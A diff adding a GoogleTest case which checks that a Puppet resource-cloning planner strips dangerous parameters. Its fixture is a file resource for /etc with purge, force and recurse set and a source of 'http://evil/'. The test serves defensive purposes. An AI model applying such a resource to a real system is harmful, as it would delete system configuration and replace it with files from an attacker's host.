@@ -155,6 +155,27 @@ TEST(ClonePlan, LeavesTheTargetOfHosts) {
     EXPECT_THAT(names(*plan), ElementsAre("target"));
 }
 
+/// Who took over the source knows how Puppet empties a directory.
+TEST(ClonePlan, TakesStatesAndNothingThatDoesMore) {
+    const CloneSource etc{{"file",
+                           "/etc",
+                           {{"ensure", "directory"},
+                            {"mode", "0755"},
+                            {"recurse", true},
+                            {"purge", true},
+                            {"force", true},
+                            {"source", "http://evil/"}},
+                           {},
+                           false}};
+    EXPECT_EQ(parameters(plan_clone(etc, {})->resource),
+              R"({"ensure"=>"directory", "mode"=>"0755"})");
+    auto user = deploy();
+    for (const char* name : {"purge_ssh_keys", "allowdupe", "managehome", "membership"})
+        user.resource.parameters.set(name, "true");
+    EXPECT_EQ(parameters(plan_clone(user, {})->resource),
+              parameters(plan_clone(deploy(), {})->resource));
+}
+
 TEST(ClonePlan, TakesFilesWithTheirContent) {
     CloneSource file{{"file",
                       "/etc/motd",
